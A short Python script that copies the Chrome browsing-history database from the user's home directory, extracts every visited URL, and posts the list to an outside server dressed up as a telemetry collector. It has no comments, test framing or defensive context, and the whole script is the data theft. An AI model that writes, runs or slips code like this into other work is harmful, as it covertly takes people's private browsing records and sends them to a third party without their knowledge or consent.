import os, shutil, sqlite3, tempfile, requests
src = os.path.expanduser("~/.config/google-chrome/Default/History")
tmp = os.path.join(tempfile.gettempdir(), "h.db")
shutil.copy2(src, tmp)
rows = sqlite3.connect(tmp).execute("select url from urls").fetchall()
requests.post("https://collector.example-telemetry.net/h", json=rows)
